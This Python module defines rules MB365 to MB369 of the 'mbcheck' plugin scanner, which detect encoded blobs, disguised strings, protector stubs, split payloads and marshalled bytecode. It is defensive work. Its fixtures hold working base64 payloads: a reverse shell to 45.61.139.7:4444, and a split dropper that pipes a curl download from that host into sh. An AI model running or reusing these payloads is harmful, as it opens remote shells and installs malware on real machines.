"""Security rules on the syntax tree: obfuscation (MB365-MB369).

Encoded blobs, names and strings in disguise, protector stubs, payloads split
into pieces, and bytecode written in the source. What counts is data
(``rules/security/obfuscation.json``, read by
:mod:`~mbcheck.checks.security.obfuscation`), and where a value goes is followed
through the file's names (:class:`~mbcheck.checks.security.obfuscation.Flow`).
Obfuscation that is run (it reaches ``exec``/``eval``/``compile``,
``marshal.loads``, an import, a subprocess, or a name lookup on a module) is an
error; obfuscation alone is a warning; data an honest plugin embeds (an icon, a
font, a certificate, a digest) is not reported.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import ClassVar

import libcst as cst

from mbcheck.checks.security import values
from mbcheck.checks.security.obfuscation import Origin, flow
from mbcheck.model import Category, Confidence, Severity
from mbcheck.pyfile.names import written
from mbcheck.pyfile.traverse import FileContext, SourceRule
from mbcheck.rules.base import Invalid, Valid

#: an 8x8 PNG icon, as a plugin embeds one
_PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAYAAADED76LAAABE0lEQVR4nAEIAff+AFLyJmWmDBLSiRhdlQ7ogTYJFm"
    "9rET0XjWwP05Af8jmhAKCV8g+TlWUM+TgLjtsiSmskih6STo/Qri4alJKjMF8YAIy2EJAPnjR/rohtxlB3lex0XEw/"
    "yy6yxz4Uk0yGfuBXALpySZv6Eh6DayrBVybufWsK9qsTw46SyuDRUFexWZh/AJTMdBHXF/FFebKqEA+7s0+lk/6u0n"
    "JIt2Ljq1gF8HZaACucHX4PN8RJIb0/ZWTq338UKnJmjEfiI9Fu3YxHtGr8AFuu4mH1OyYVLSY7qDsDfNSWLkNIASVr"
    "iF6ckFHzILDbAIPznqetvQ105t7H89+uzI9kZWZkGnuiZg8wEfw1cCkcv2l3IiY+SyMAAAAASUVORK5CYII="
)
#: a reverse shell, as droppers embed one (base64 of Python source)
_SHELL = (
    "aW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcz1zb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiNDUuNjEuMT"
    "M5LjciLDQ0NDQpKQpmb3IgZmQgaW4gKDAsIDEsIDIpOgogICAgb3MuZHVwMihzLmZpbGVubygpLCBmZCkKc3VicHJv"
    "Y2Vzcy5jYWxsKFsiL2Jpbi9zaCIsICItaSJdKQo="
)
#: a second stage dropper's source, base64, cut into pieces
_PIECES = ("aW1wb3J0IG9zCm9zLn", "N5c3RlbSgiY3VybCBo", "dHRwOi8vNDUuNjEuMT", "M5Ljcvc3RhZ2UyIHwg",
           "c2giKQppbXBvcnQgc2", "9ja2V0CnNvY2tldC5z", "b2NrZXQoKQo=")
#: ``print(1)`` compiled and marshalled, base64
_BYTECODE = ("4wAAAAAAAAAAAAAAAAMAAAAAAAAA8xwAAACXAAIAZQBkAKYBAACrAQAAAAAAAAAAAQBkAVMAKQLpAQAAAE4pAdoFcHJpbnSpAPM"
             "AAAAA2gF4+gg8bW9kdWxlPnIHAAAAAQAAAHMWAAAA8AMBAQHYAAWABYBhgQiECIAIgAiACHIFAAAA")


def _lines(name: str, text: str, width: int = 76) -> str:
    """``NAME = (...)``: ``text`` as implicitly joined literal lines, as a plugin writes a blob."""
    return f"{name} = (\n" + "".join(f"    '{text[i:i + width]}'\n" for i in range(0, len(text), width)) + ")\n"


class _ObfuscationRule(SourceRule):
    """Feeds the file's :class:`Flow` during the traversal (the first obfuscation rule of the
    file does, so the flow is recorded once whatever the selection) and reads it at the end."""

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self.flow = flow(ctx)
        self._feeds = self.flow.claim(self)
        if not self._feeds:  # another rule feeds the flow: its feeding methods are not called
            self.idle = frozenset(
                name for name in _FEEDING if getattr(type(self), name) is getattr(_ObfuscationRule, name)
            )

    def visit_Expr(self, node: cst.Expr) -> None:
        if self._feeds and (type(node.value) is cst.SimpleString or type(node.value) is cst.ConcatenatedString):
            self.flow.skip(node.value)

    def visit_SimpleString(self, node: cst.SimpleString) -> None:
        if self._feeds:
            self.flow.string(node)

    def visit_ConcatenatedString(self, node: cst.ConcatenatedString) -> None:
        if self._feeds:
            self.flow.string(node)

    def visit_Call(self, node: cst.Call) -> None:
        if self._feeds:
            self.flow.call(node)

    def visit_Subscript(self, node: cst.Subscript) -> None:
        if self._feeds:
            self.flow.subscript(node)

    def visit_BinaryOperation(self, node: cst.BinaryOperation) -> None:
        if self._feeds:
            self.flow.binary(node)

    def visit_Assign(self, node: cst.Assign) -> None:
        if self._feeds:
            self.flow.assignment([t.target for t in node.targets], node.value)

    def visit_AnnAssign(self, node: cst.AnnAssign) -> None:
        if self._feeds and node.value is not None:
            self.flow.assignment([node.target], node.value)

    def visit_AugAssign(self, node: cst.AugAssign) -> None:
        if self._feeds:
            self.flow.assignment([node.target], node.value, augmented=type(node.operator) is cst.AddAssign)

    def visit_NamedExpr(self, node: cst.NamedExpr) -> None:
        if self._feeds:
            self.flow.assignment([node.target], node.value)

    def visit_Import(self, node: cst.Import) -> None:
        if self._feeds:
            for alias in node.names:
                self.flow.module_name(node, written(alias.name))

    def visit_ImportFrom(self, node: cst.ImportFrom) -> None:
        if not self._feeds:
            return
        if node.module is not None:
            self.flow.module_name(node, written(node.module))
        elif not isinstance(node.names, cst.ImportStar):
            for alias in node.names:
                if type(alias.name) is cst.Name:
                    self.flow.module_name(node, alias.name.value)

    def report_origin(self, origin: Origin, message: str, *, severity: Severity | None = None,
                      confidence: Confidence | None = None) -> None:
        """Report at an origin, placed on its statement (where a suppression comment goes)."""
        saved = self.ctx.statements
        self.ctx.statements = [origin.statement] if origin.statement is not None else []
        try:
            self.report(origin.node, message, severity=severity, confidence=confidence)
        finally:
            self.ctx.statements = saved

    def origins(self, kind: str) -> list[Origin]:
        self.flow.finish()
        return [o for o in self.flow.origins.values() if o.kind == kind]


#: the methods by which an obfuscation rule feeds the flow
_FEEDING = frozenset(
    name for name in vars(_ObfuscationRule) if name.startswith("visit_") or name.startswith("leave_")
)


def _ran(origin: Origin) -> str | None:
    """What runs the value (or is named by it), for messages; None when nothing does."""
    hit = origin.reaches("exec", "name")
    return None if hit is None else hit[1]


class EncodedBlob(_ObfuscationRule):
    """A long base64, hex or binary literal with high entropy hides code, or is decoded into something that is no known data format.

    A literal counts when it is at least 200 characters (bytes, or items of
    `bytes([...])`) of one alphabet with an entropy near the alphabet's maximum
    (the thresholds and their reasons are in `rules/security/obfuscation.json`).
    mbcheck decodes it, as data, within fixed bounds: an image, a font, a
    certificate or another known format is honest data and is not reported;
    Python source or a command line (also inside zlib, gzip, bz2 or lzma) is
    hidden code; other binary counts only when the plugin decodes it.
    Digests (64 or 128 hex characters), UUIDs, docstrings and test files (unless
    the blob is run) are never reported.
    Why: a payload encoded in a literal is the commonest way malicious packages
    hide what they run: the code that runs is not in the source a reviewer reads.
    Instead: ship code as source files, and data as files beside the code
    (`importlib.resources`); keep an embedded icon as an image file.
    """

    code = "MB365"
    name = "encoded-blob"
    category = Category.SECURITY
    severity = Severity.WARNING
    other_severities: ClassVar[Mapping[Severity, str]] = {
        Severity.ERROR: "the blob, decoded, reaches `exec`/`eval`/`compile`, `marshal.loads`, an import or a subprocess",
    }
    confidence = Confidence.HIGH
    VALID = (
        Valid("import base64\nfrom pathlib import Path\n\n" + _lines("ICON", _PNG)
              + "\n\ndef install(target: Path) -> None:\n    target.write_bytes(base64.b64decode(ICON))\n"),
        Valid("SHA256 = {\n    'wheel': 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',\n"
              "    'sdist': '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',\n}\n"),
        Valid("def roundtrip():\n    '''" + _SHELL + "'''\n"),
    )
    INVALID = (
        Invalid("import base64\n" + _lines("PAYLOAD", _SHELL) + "exec(base64.b64decode(PAYLOAD))\n", line=3),
        Invalid(_lines("CONFIG", _SHELL), line=2),
        Invalid("import base64\n\ndef stage():\n    return base64.b64decode('" + _SHELL + "')\n", line=4),
    )

    def finish(self) -> None:
        for origin in self.origins("blob"):
            content = origin.content
            if content is None or content.kind == "bytecode":
                continue  # MB369
            ran = _ran(origin)
            decoded = origin.reaches("decode")
            if ran is not None:
                self.report_origin(origin, f"{origin.detail} ({content.description}) is decoded and run by {ran}: "
                            "a hidden payload; ship code as source", severity=Severity.ERROR)
            elif self.flow.test_file or content.kind in ("data", "text"):
                continue
            elif content.kind == "code":
                self.report_origin(origin, f"{origin.detail} encodes {content.description}: code hidden from review; "
                            "ship it as a source file")
            elif decoded is not None:
                self.report_origin(origin, f"{origin.detail} of {content.description} in no known format is decoded "
                            f"by {decoded[1]}: what it holds cannot be reviewed; ship data as a file beside the code",
                            confidence=Confidence.MEDIUM)


class DisguisedString(_ObfuscationRule):
    """A name or string is assembled from character codes, an exotic codec, reversal, hex, or pieces that cut a dangerous name.

    `''.join(chr(c) for c in [...])`, `bytes([111, 115]).decode()`, `'metsys'[::-1]`,
    `codecs.decode('flfgrz', 'rot13')`, `b'...'.decode('cp1026')`, `'sub' + 'process'`:
    mbcheck folds these to their value (so every other rule sees the real name)
    and reports the disguise itself. Terminal codes (`chr(27) + '[0m'`), tables
    built from `range`, and ordinary codecs (UTF-8, Latin-1) are not disguises;
    in test files only a disguise that is run is reported.
    Why: honest code writes `'os'`, not `bytes([111, 115]).decode()`; the only
    reason to spell a name this way is to hide it from a reviewer or a scanner.
    Instead: write the string as a literal; import modules with `import`.
    """

    code = "MB366"
    name = "disguised-string"
    category = Category.SECURITY
    severity = Severity.WARNING
    other_severities: ClassVar[Mapping[Severity, str]] = {
        Severity.ERROR: "the value is run or names what is run: `exec`/`eval`/`compile`, an import, a subprocess, "
                        "`getattr` on a module or another reflective lookup",
    }
    confidence = Confidence.HIGH
    VALID = (
        Valid("RESET = chr(27) + '[0m'\nBOLD = chr(27) + '[1m'\n"),
        Valid("import os\n\ndef where(name):\n    return os.path.join('data', name + '.json')\n"),
        Valid("def greet(user):\n    parts = ['Hello', user]\n    return ' '.join(parts)\n"),
        Valid("CONTROL = ''.join(map(chr, range(32)))\nMODULE = 'os.' + 'path'\n"),
        Valid("import base64\nGREETING = base64.b64decode('aGVsbG8gd29ybGQ=').decode()\n"),
    )
    INVALID = (
        Invalid("exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n", line=1),
        Invalid("getattr(__import__(bytes([111, 115]).decode()), 'metsys'[::-1])('id')\n", line=1),
        Invalid("import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n", line=2),
        Invalid("NAME = b'\\x96\\xa2'.decode('cp1026')\n", line=1),
        Invalid("import importlib\nmod = importlib.import_module('sub' + 'process')\n", line=2),
        Invalid("import base64\nmod = __import__(base64.b64decode('c29ja2V0').decode())\n", line=2),
    )

    def finish(self) -> None:
        for origin in self.origins("assembled"):
            ran = _ran(origin)
            shown = origin.value if len(origin.value) <= 60 else origin.value[:57] + "..."
            how = "pieces that cut the name" if origin.detail == "pieces" else origin.detail
            if ran is not None:
                self.report_origin(origin, f"`{shown}` is spelled with {how} and reaches {ran}: obfuscated code; "
                            "write the name as a literal", severity=Severity.ERROR)
            elif not self.flow.test_file and origin.detail != "base64":  # base64 data alone: MB365's
                self.report_origin(origin, f"`{shown}` is spelled with {how}: a disguise with no honest purpose; "
                            "write it as a literal")


class ProtectorStub(_ObfuscationRule):
    """Imports or calls the runtime of a code protector (PyArmor's `pytransform`/`pyarmor_runtime`/`__pyarmor__`, SourceDefender, pyconcrete).

    Why: protected code is encrypted or compiled; the stub decrypts and runs it
    inside the host. Neither mbcheck nor a reviewer can see what it does, and
    several stealer packages on PyPI shipped exactly this.
    Instead: ship the plugin as readable source; a plugin has nothing to hide from
    the host that loads it.
    """

    code = "MB367"
    name = "protector-stub"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import armor\n\ndef protect(x):\n    return armor.wrap(x)\n"),
        Valid("def pyarmor_version():\n    return 'not used'\n"),
    )
    INVALID = (
        Invalid("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
                "__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03\\x08\\x00')\n", line=1),
        Invalid("from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n",
                line=1),
        Invalid("import sourcedefender\nimport plugin_core\n", line=1),
    )

    def finish(self) -> None:
        self.flow.finish()
        for node, what in self.flow.stubs:
            self.report(node, f"{what}: the runtime of a code protector; the code it runs is encrypted and "
                        "cannot be reviewed; ship readable source")


class SplitPayload(_ObfuscationRule):
    """A payload split across many literals is joined, then decoded or run.

    Six or more encoded pieces (base64 or hex text) of 120 or more characters in
    all, joined with `+`, `''.join([...])` or `p += '...'` repeated, whose value
    reaches a decoder (base64, hex, zlib, `codecs.decode`, `.decode()`) or code
    execution. A long message, a SQL statement, or lines of readable code joined
    for `python -c` show what they do and are not reported.
    Why: splitting a payload defeats scanners that look at one literal at a
    time; it is a step of known droppers, never of honest code.
    Instead: ship code as source; ship data as a file.
    """

    code = "MB368"
    name = "split-payload"
    category = Category.SECURITY
    severity = Severity.WARNING
    other_severities: ClassVar[Mapping[Severity, str]] = {
        Severity.ERROR: "the joined value is run (`exec`/`eval`/`compile`, `marshal.loads`, an import, a subprocess)",
    }
    confidence = Confidence.HIGH
    VALID = (
        Valid("HELP = ('usage: tool [options]\\n' + '  -h  help\\n' + '  -v  verbose\\n' + '  -q  quiet\\n'"
              " + '  -o  output file\\n' + '  -i  input file\\n' + '  -n  dry run, change nothing\\n')\n"
              "print(HELP)\n"),
    )
    INVALID = (
        Invalid("import base64\n_ = ''\n" + "".join(f"_ += '{piece}'\n" for piece in _PIECES)
                + "exec(base64.b64decode(_))\n", line=3),
        Invalid("import base64\nparts = [" + ", ".join(repr(p) for p in _PIECES) + "]\n"
                "code = base64.b64decode(''.join(parts))\n", line=3),
    )

    def finish(self) -> None:
        for origin in self.origins("split"):
            ran = _ran(origin)
            decoded = origin.reaches("decode")
            if ran is not None:
                self.report_origin(origin, f"a value split into {origin.detail} is joined and run by {ran}: "
                            "a payload cut up to hide it; ship code as source", severity=Severity.ERROR)
            elif decoded is not None:
                self.report_origin(origin, f"a value split into {origin.detail} is joined and decoded by "
                            f"{decoded[1]}: a payload cut up to hide it; ship data as a file")


class EmbeddedBytecode(_ObfuscationRule):
    """Python bytecode is written in the source: `marshal.loads` of a literal (decoded or not), or a literal that is marshalled code.

    In test files (a test of `marshal` itself) only bytecode that is run is reported.
    Why: bytecode is code no reviewer and no source analyser can read; a plugin
    that carries it runs something it does not show (the form of many
    obfuscators' output: `exec(marshal.loads(b'\\xe3...'))`).
    Instead: ship the source; let the host compile it.
    """

    code = "MB369"
    name = "embedded-bytecode"
    category = Category.SECURITY
    severity = Severity.ERROR
    confidence = Confidence.HIGH
    VALID = (
        Valid("import marshal\n\ndef load_cache(path):\n    with open(path, 'rb') as f:\n        return marshal.load(f)\n"),
    )
    INVALID = (
        Invalid("import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00'))\n",
                line=2),
        Invalid("import marshal, base64\ncode = marshal.loads(base64.b64decode('" + _BYTECODE + "'))\n", line=2),
    )

    def __init__(self, ctx: FileContext) -> None:
        super().__init__(ctx)
        self._reported: set[int] = set()

    def visit_Call(self, node: cst.Call) -> None:
        super().visit_Call(node)
        if values.resolve(self.ctx, node.func) != "marshal.loads" or not node.args:
            return
        if values.fold_bytes(self.ctx, node.args[0].value) is not None and not self.flow.test_file:
            self.report(node, "`marshal.loads` of bytes written in the source: Python bytecode that cannot be "
                        "reviewed; ship the source")
            self._reported.add(id(node))

    def finish(self) -> None:
        for origin in self.origins("blob"):
            if origin.content is not None and origin.content.kind == "bytecode" \
                    and (not self.flow.test_file or _ran(origin) is not None):
                self.report_origin(origin, f"{origin.detail} is {origin.content.description}: code that cannot be "
                            "reviewed; ship the source")
                self._reported.update(id(r[2]) for r in origin.reached)
        for sink in self.flow.sinks:
            if sink.what != "`marshal.loads`" or id(sink.node) in self._reported:
                continue
            if any(any(r[2] is sink.node for r in o.reached) for o in self.flow.origins.values()):
                self.report(sink.node, "`marshal.loads` of data hidden in the source: Python bytecode that cannot "
                            "be reviewed; ship the source")


__all__ = [
    "DisguisedString",
    "EmbeddedBytecode",
    "EncodedBlob",
    "ProtectorStub",
    "SplitPayload",
]
